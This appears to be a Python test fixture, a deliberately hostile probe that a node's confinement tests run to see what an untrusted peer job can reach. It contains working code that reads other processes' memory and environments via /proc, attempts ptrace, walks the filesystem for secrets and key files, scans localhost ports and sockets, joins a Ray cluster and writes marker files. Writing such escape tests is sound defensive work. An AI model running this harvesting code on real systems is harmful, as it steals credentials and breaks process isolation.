"""A hostile slice function: it looks for the node's secrets every way it can and returns what it found.

Copied into a module of a unique name by tests/test_node_confinement_attacks.py and run by a real node
as a peer's Order. Every probe is bounded in time and bytes and never raises: the report is the slice's
output, a JSON object whose file and memory contents are base64.
"""

from __future__ import annotations

import base64
import contextlib
import ctypes
import errno
import json
import os
import socket
import stat
import subprocess
import sys
import time
from typing import Any

PER_FILE = 256 << 10
TOTAL = 8 << 20
PTRACE_ATTACH, PTRACE_DETACH = 16, 17
# read last (and not their contents): the system's own programs and libraries
_SYSTEM = ("/usr", "/lib", "/lib32", "/lib64", "/libx32", "/bin", "/sbin", "/boot", "/snap")
_SKIP = ("/proc", "/sys", "/dev")  # probed on purpose below, never walked blindly


class Report:
    def __init__(self, budget_s: float) -> None:
        self.deadline = time.monotonic() + budget_s
        self.bytes = 0
        self.walked: set[str] = set()
        self.data: dict[str, Any] = {"files": {}, "links": {}, "denied": 0, "listed": 0, "proc": {}, "ptrace": {},
                                     "mem": {}, "alive": [], "tcp": {}, "unix": {}, "ray": {}, "writes": {},
                                     "env": dict(os.environ), "me": {"pid": os.getpid(), "uid": os.getuid()}}

    def late(self) -> bool:
        return time.monotonic() > self.deadline

    def keep(self, section: str, key: str, data: bytes) -> None:
        if self.bytes + len(data) > TOTAL:
            data = data[: max(0, TOTAL - self.bytes)]
        self.bytes += len(data)
        self.data[section][key] = base64.b64encode(data).decode()


def _read(path: str, limit: int = PER_FILE) -> bytes:
    """Up to `limit` bytes of a regular file (or a /proc file); never blocks on a pipe or a device."""
    fd = os.open(path, os.O_RDONLY | os.O_NONBLOCK)
    try:
        if not stat.S_ISREG(os.fstat(fd).st_mode):
            raise OSError(errno.EINVAL, "not a regular file")
        chunks, got = [], 0
        while got < limit and (chunk := os.read(fd, min(65536, limit - got))):
            chunks.append(chunk)
            got += len(chunk)
        return b"".join(chunks)
    finally:
        os.close(fd)


def read_file(report: Report, path: str) -> None:
    if path in report.data["files"] or report.bytes >= TOTAL:
        return
    try:
        report.keep("files", path, _read(path))
    except OSError:
        report.data["denied"] += 1


def walk(report: Report, top: str) -> None:
    """Every file under `top` (symlinks followed to their target, once), until the time runs out."""
    stack = [top]
    while stack and not report.late():
        folder = stack.pop()
        if os.path.realpath(folder) in report.walked:  # a folder seen through a link, or a link's loop
            continue
        report.walked.add(os.path.realpath(folder))
        try:
            entries = list(os.scandir(folder))
        except OSError:
            report.data["denied"] += 1
            continue
        for entry in entries:
            report.data["listed"] += 1
            path = entry.path
            if any(path == s or path.startswith(s + "/") for s in _SKIP):
                continue
            try:
                if entry.is_symlink():
                    target = os.readlink(path)
                    report.data["links"][path] = target
                    if os.path.isdir(path):
                        stack.append(path)
                    else:
                        read_file(report, path)
                elif entry.is_dir(follow_symlinks=False):
                    stack.append(path)
                elif entry.is_file(follow_symlinks=False):
                    read_file(report, path)
                elif stat.S_ISSOCK(entry.stat(follow_symlinks=False).st_mode):
                    unix(report, path)
            except OSError:
                report.data["denied"] += 1


def everything(report: Report, known: list[str]) -> None:
    """The paths it was told of first, then the whole tree it can see, system folders last."""
    for path in known:
        if os.path.isdir(path):
            walk(report, path)
        else:
            read_file(report, path)
    for shared in ("/tmp/ray", "/dev/shm"):  # Ray's session files, sockets and object store
        walk(report, shared)
    try:
        tops = sorted(os.listdir("/"), key=lambda name: ("/" + name) in _SYSTEM)
    except OSError:
        tops = []
    for name in tops:
        walk(report, "/" + name)


def _pids() -> list[int]:
    try:
        return sorted(int(p) for p in os.listdir("/proc") if p.isdigit())
    except OSError:
        return []


def procfs(report: Report, known: list[str]) -> None:
    """Every process's environment, command line, maps, open files, memory and root folder."""
    me = os.getpid()
    for pid in _pids():
        if report.late():
            break
        base = f"/proc/{pid}"
        seen: dict[str, Any] = {}
        for name in ("environ", "cmdline", "maps", "status"):
            try:
                seen[name] = base64.b64encode(_read(f"{base}/{name}")).decode()
            except OSError as e:
                seen[name] = f"! {e.strerror}"
        if pid != me:
            seen["mem"] = memory(report, pid)
        fds = {}
        with contextlib.suppress(OSError):
            for fd in os.listdir(f"{base}/fd"):
                with contextlib.suppress(OSError):
                    fds[fd] = os.readlink(f"{base}/fd/{fd}")
                    read_file(report, f"{base}/fd/{fd}")
        seen["fd"] = fds
        with contextlib.suppress(OSError):
            seen["root"] = sorted(os.listdir(f"{base}/root"))[:200]
        for path in known:  # the node's files, seen from that process's root and working folder
            for via in ("root", "cwd"):
                rooted = f"{base}/{via}/{path.lstrip('/')}" if via == "root" else f"{base}/cwd/{os.path.basename(path)}"
                if os.path.isdir(rooted):
                    walk(report, rooted)
                else:
                    read_file(report, rooted)
        report.data["proc"][str(pid)] = seen


def memory(report: Report, pid: int) -> str:
    """The stack (where a process's environment lives) and heap of another process, through /proc/PID/mem."""
    try:
        maps = _read(f"/proc/{pid}/maps").decode(errors="replace").splitlines()
        regions = [line.split()[0] for line in maps if line.endswith(("[stack]", "[heap]"))]
        with open(f"/proc/{pid}/mem", "rb", buffering=0) as mem:
            for region in regions:
                start, end = (int(x, 16) for x in region.split("-"))
                mem.seek(max(start, end - PER_FILE))
                report.keep("mem", f"{pid}:{region}", mem.read(min(PER_FILE, end - start)))
        return "read"
    except (OSError, ValueError, OverflowError) as e:
        return f"! {e}"


def ptrace(report: Report, pids: list[int]) -> None:
    """PTRACE_ATTACH to the node's process (by its number outside), and to every process it sees when
    those are few (a PID namespace of its own; on the machine's, other people's processes are left be)."""
    libc = ctypes.CDLL(None, use_errno=True)
    libc.ptrace.argtypes = [ctypes.c_long, ctypes.c_long, ctypes.c_void_p, ctypes.c_void_p]
    seen = _pids()
    for pid in sorted(set(pids + (seen if len(seen) <= 16 else [])) - {os.getpid()}):
        if libc.ptrace(PTRACE_ATTACH, pid, None, None) == 0:
            report.data["ptrace"][str(pid)] = "attached"
            with contextlib.suppress(ChildProcessError, OSError):
                os.waitpid(pid, 0)
            libc.ptrace(PTRACE_DETACH, pid, None, None)
        else:
            report.data["ptrace"][str(pid)] = os.strerror(ctypes.get_errno())


def signals(report: Report, pids: list[int], top: int) -> None:
    """Which process numbers answer signal 0: those it could signal."""
    for pid in sorted(set(range(1, top)) | set(pids)):
        try:
            os.kill(pid, 0)
        except ProcessLookupError:
            continue
        except PermissionError:
            report.data["alive"].append([pid, "exists, not ours"])
            continue
        report.data["alive"].append([pid, "signalable"])


def _listening() -> set[int]:
    ports = set()
    for table in ("/proc/net/tcp", "/proc/net/tcp6"):
        with contextlib.suppress(OSError):
            for line in _read(table, 4 << 20).decode().splitlines()[1:]:
                fields = line.split()
                if fields[3] == "0A":  # LISTEN
                    ports.add(int(fields[1].rsplit(":", 1)[1], 16))
    return ports


def tcp(report: Report, hosts: list[str], ports: list[int]) -> None:
    """An HTTP request to the ports it was told of, or to every port of a network of its own."""
    # every port, when it sees no listener (a network of its own); else (the machine's network) only
    # the ports it was told of: the machine's other services are not the node's
    wanted = ports if _listening() else range(1, 65536)
    for port in wanted:
        for host in hosts if port in ports else hosts[:1]:
            try:
                with socket.create_connection((host, port), timeout=0.5) as s:
                    if s.getsockname() == s.getpeername():  # TCP's self-connect, on a free port of the scan
                        continue
                    s.sendall(b"GET /from-the-probe HTTP/1.0\r\nHost: x\r\n\r\n")
                    s.settimeout(2)
                    answer = s.recv(4096)
                report.data["tcp"][f"{host}:{port}"] = "connected: " + answer[:200].decode(errors="replace")
            except OSError as e:
                if port in ports:
                    report.data["tcp"][f"{host}:{port}"] = f"! {e}"


def unix(report: Report, path: str) -> None:
    try:
        with socket.socket(socket.AF_UNIX, socket.SOCK_STREAM) as s:
            s.settimeout(0.5)
            s.connect(path)
        report.data["unix"][path] = "connected"
    except OSError as e:
        report.data["unix"][path] = f"! {e}"


def abstract_sockets(report: Report) -> None:
    with contextlib.suppress(OSError):
        for line in _read("/proc/net/unix", 4 << 20).decode(errors="replace").splitlines()[1:]:
            name = line.split()[-1] if len(line.split()) > 7 else ""
            if name.startswith("@"):
                with contextlib.suppress(OSError), socket.socket(socket.AF_UNIX, socket.SOCK_STREAM) as s:
                    s.settimeout(0.5)
                    s.connect("\0" + name[1:])
                    report.data["unix"][name] = "connected"


def ray(report: Report, address: str) -> None:
    """Join the node's Ray as a driver (then it could run anything in an unconfined worker)."""
    if "ray" in sys.modules:  # unconfined: it has the node's Ray in hand (and joins no other)
        report.data["ray"]["inside"] = "this process is a Ray worker already"
        return
    for where in ("auto", address):
        code = f"import ray; ray.init(address={where!r}, logging_level='ERROR'); print(ray.cluster_resources())"
        try:
            done = subprocess.run([sys.executable, "-c", code], capture_output=True, timeout=5, text=True)
            said = (done.stdout + done.stderr).strip().splitlines()
            report.data["ray"][where] = f"exit {done.returncode}: {said[-1] if said else ''}"[:300]
        except (OSError, subprocess.TimeoutExpired) as e:
            report.data["ray"][where] = f"! {type(e).__name__}"


def writes(report: Report, folders: list[str]) -> None:
    for folder in folders:
        path = os.path.join(folder, "ATTACK-was-here")
        try:
            with open(path, "w") as f:
                f.write("written by a peer's Order\n")
            report.data["writes"][path] = "written"
        except OSError as e:
            report.data["writes"][path] = f"! {e.strerror}"


def probe(data: bytes, home: str = "", store: str = "", pids: list[int] | None = None,
          ports: list[int] | None = None, ray_address: str = "", budget_s: float = 8.0) -> bytes:
    """The report on what it could reach, given what an attacker could learn: the node's CATS_HOME and store
    folder, process numbers (the node's first: it is ptraced), TCP ports, and the address of a Ray."""
    report = Report(budget_s)
    known = [home, store, os.path.join(home, "identity", "ed25519.pem")]
    steps = [(writes, [home, store, os.path.join(home, "identity"), "/code"]), (procfs, known),
             (ptrace, list(pids or [])[:1]), (signals, list(pids or []), 70000),
             (tcp, ["127.0.0.1", "::1"], list(ports or [])), (abstract_sockets,), (ray, ray_address)]
    took = report.data["took"] = {}
    for step, *args in steps:
        started = time.monotonic()
        step(report, *args)
        took[step.__name__] = round(time.monotonic() - started, 2)
    report.deadline = time.monotonic() + budget_s  # the walk gets the whole budget
    everything(report, known)
    report.data["late"] = report.late()
    return json.dumps(report.data).encode()
